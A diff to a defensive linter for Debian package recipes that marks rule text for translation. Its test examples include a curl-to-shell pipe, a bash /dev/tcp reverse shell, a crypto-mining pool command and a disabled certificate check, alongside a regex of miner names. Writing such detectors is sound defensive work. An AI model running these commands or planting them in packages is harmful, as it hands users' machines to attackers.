@@ -7,7 +7,7 @@ from collections.abc import Callable, Iterator
 
 from recipes_app.formats.findings import Severity
 
-from .base import About, Family, Place, check
+from .base import About, Family, Place, check, gettext_noop
 from .examples import RULES
 from .facts import fetches, installs_packages, is_reverse_shell, runs_what_is_fetched, sources_of
 from .languages import FETCH
@@ -17,7 +17,9 @@ from .scripts import RULES as BUILD
 from .shell_command import Command
 
 _POSTINST = "#!/bin/sh\nset -e\n#DEBHELPER#\n"
-_DECLARE = "declare the file in debian/dur with a Fetch paragraph, its URL and SHA256: the client fetches it before the build"
+_DECLARE = gettext_noop(
+    "declare the file in debian/dur with a Fetch paragraph, its URL and SHA256: the client fetches it before the build"
+)
 _MINERS = re.compile(
     r"stratum\+(?:tcp|ssl|tls)://|\b(?:xmrig|minerd|cpuminer|ethminer|nbminer|t-rex-miner|lolminer|xmr-stak|cgminer)\b",
     re.IGNORECASE,
@@ -56,8 +58,8 @@ def example_at_installation(line: str) -> dict[str, str]:
         id="DUR701",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="The build fetches from the network",
-        explanation=(
+        title=gettext_noop("The build fetches from the network"),
+        explanation=gettext_noop(
             "Debian Policy 4.9 forbids a build to use the network. What it fetches can be another thing tomorrow, nobody has "
             "reviewed it, and no checksum stands for it. debian/rules and the scripts that it calls are read as make and the "
             "shell read them; targets that no build reaches, such as get-orig-source, do not count."
@@ -77,13 +79,13 @@ def build_fetches(recipe: Recipe) -> Iterator[Place]:
         id="DUR702",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="Something from the network is run unseen",
-        explanation=(
+        title=gettext_noop("Something from the network is run unseen"),
+        explanation=gettext_noop(
             'A shell or an interpreter runs what comes from the network: curl | sh, sh -c "$(wget …)", bash <(curl …), or a file '
             "that was fetched two lines before. Who controls that address controls every machine that builds or installs the "
             "package, from that moment and without a trace here."
         ),
-        remedy="remove it; what the package needs belongs into the package, from a source that debian/dur pins",
+        remedy=gettext_noop("remove it; what the package needs belongs into the package, from a source that debian/dur pins"),
         failing=example_at_installation("curl -s https://example.org/setup | sh"),
         mending=example_at_installation("update-mime-database /usr/share/mime"),
     )
@@ -107,8 +109,8 @@ def runs_the_network(recipe: Recipe) -> Iterator[Place]:
         id="DUR703",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="A maintainer script fetches from the network",
-        explanation=(
+        title=gettext_noop("A maintainer script fetches from the network"),
+        explanation=gettext_noop(
             "Maintainer scripts run as root on the machine of everybody who installs the package. What they fetch is neither "
             "in the package nor under a checksum of it, and an installation without network fails. The review of this recipe "
             "says nothing about it."
@@ -128,13 +130,15 @@ def installation_fetches(recipe: Recipe) -> Iterator[Place]:
         id="DUR704",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="Packages of another package manager are fetched",
-        explanation=(
+        title=gettext_noop("Packages of another package manager are fetched"),
+        explanation=gettext_noop(
             "pip, npm, cargo, gem and their like fetch whatever their registry has today, with everything that it depends on, "
             "and many of them run code of it at once: this is how most attacks on registries reach machines. Neither a build "
             "nor an installation of a Debian package may do it."
         ),
-        remedy="depend on Debian's packages of them, or declare each file in debian/dur and install with --no-index or --offline",
+        remedy=gettext_noop(
+            "depend on Debian's packages of them, or declare each file in debian/dur and install with --no-index or --offline"
+        ),
         failing=example_at_build("pip install requests"),
         mending=example_at_build("pip install --no-index --no-deps --find-links=. requests"),
     )
@@ -149,13 +153,13 @@ def fetches_packages(recipe: Recipe) -> Iterator[Place]:
         id="DUR705",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="A repository is cloned",
-        explanation=(
+        title=gettext_noop("A repository is cloned"),
+        explanation=gettext_noop(
             "A branch of a repository is whatever its owner pushed last. In 2025 packages of another distribution's user "
             "repository brought a remote access trojan as a second source repository that was cloned beside a browser. A "
             "source has to be pinned, and a build must not use the network."
         ),
-        remedy="declare the source in debian/dur with Fetch, its commit or its checksum",
+        remedy=gettext_noop("declare the source in debian/dur with Fetch, its commit or its checksum"),
         failing=example_at_build("git clone https://example.org/patches.git"),
         mending=example_at_build("git --version"),
     )
@@ -170,8 +174,8 @@ def clones(recipe: Recipe) -> Iterator[Place]:
         id="DUR706",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="Python, Perl or another language's code fetches from the network",
-        explanation=(
+        title=gettext_noop("Python, Perl or another language's code fetches from the network"),
+        explanation=gettext_noop(
             "The code that debian/rules or a maintainer script hands to an interpreter, or a script that it calls, uses a "
             "library for the network. It is the same as curl, written in another language. The libraries are known by their "
             "names; what hides those names is looked for by the checks DUR721 to DUR739."
@@ -193,12 +197,12 @@ def code_fetches(recipe: Recipe) -> Iterator[Place]:
         id="DUR707",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="A connection to a shell is opened",
-        explanation=(
+        title=gettext_noop("A connection to a shell is opened"),
+        explanation=gettext_noop(
             "A shell whose input and output are a network connection gives the machine to whoever is at the other end. No "
             "package needs bash's /dev/tcp, nc -e or a socket that is copied onto a shell's descriptors."
         ),
-        remedy="remove it",
+        remedy=gettext_noop("remove it"),
         failing=example_at_installation("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         mending=example_at_installation("true"),
     )
@@ -215,13 +219,13 @@ def reverse_shell(recipe: Recipe) -> Iterator[Place]:
         id="DUR708",
         severity=Severity.WARNING,
         family=Family.NETWORK,
-        title="The check of certificates or signatures is switched off",
-        explanation=(
+        title=gettext_noop("The check of certificates or signatures is switched off"),
+        explanation=gettext_noop(
             "Options such as --no-check-certificate, http.sslVerify=false or --allow-unauthenticated make anybody on the way "
             "able to hand out another file. They are looked for in all scripts, as options and as variables of the "
             "environment."
         ),
-        remedy="remove the option; where a server's certificate is broken, name another mirror in debian/dur",
+        remedy=gettext_noop("remove the option; where a server's certificate is broken, name another mirror in debian/dur"),
         failing=example_at_build("git config http.sslVerify=false"),
         mending=example_at_build("git config user.name builder"),
     )
@@ -240,12 +244,12 @@ def unsafe_transport(recipe: Recipe) -> Iterator[Place]:
         id="DUR709",
         severity=Severity.WARNING,
         family=Family.NETWORK,
-        title="A service or a timed job fetches from the network",
-        explanation=(
+        title=gettext_noop("A service or a timed job fetches from the network"),
+        explanation=gettext_noop(
             "A unit, a cron file or an init script of the package fetches something again and again on the user's machine. "
             "Many services have a reason to; a reviewer should know which, from where, and what is done with it."
         ),
-        remedy="say in the package's description what is fetched, and let the administrator switch it off",
+        remedy=gettext_noop("say in the package's description what is fetched, and let the administrator switch it off"),
         failing={
             "debian/systemd/hello.service": "[Service]\nExecStart=/usr/bin/wget -q -O /var/lib/hello-dur/list https://example.org/list\n"
         },
@@ -262,12 +266,12 @@ def service_fetches(recipe: Recipe) -> Iterator[Place]:
         id="DUR710",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="A patch adds a line that runs something from the network",
-        explanation=(
+        title=gettext_noop("A patch adds a line that runs something from the network"),
+        explanation=gettext_noop(
             "A patch puts curl | sh or its like into upstream's source, where it runs at the build or on users' machines. "
             "Only this shape is looked for in patches: what else a patch does has to be read by a person."
         ),
-        remedy="remove it from the patch",
+        remedy=gettext_noop("remove it from the patch"),
         failing={
             "debian/patches/series": "setup.patch\n",
             "debian/patches/setup.patch": (
@@ -300,12 +304,12 @@ def patch_runs_the_network(recipe: Recipe) -> Iterator[Place]:
         id="DUR711",
         severity=Severity.ERROR,
         family=Family.NETWORK,
-        title="A miner of a currency is started or set up",
-        explanation=(
+        title=gettext_noop("A miner of a currency is started or set up"),
+        explanation=gettext_noop(
             "A script names a program that mines a currency, or the address of a mining pool. Mining on machines of people "
             "who did not ask for it is the most frequent aim of malicious packages. A package of a miner need not start it."
         ),
-        remedy="remove it from the scripts; a program that mines starts when its user starts it",
+        remedy=gettext_noop("remove it from the scripts; a program that mines starts when its user starts it"),
         failing=example_at_installation("/usr/lib/hello-dur/worker -o stratum+tcp://pool.example.org:3333"),
         mending=example_at_installation("/usr/lib/hello-dur/worker --version"),
     )
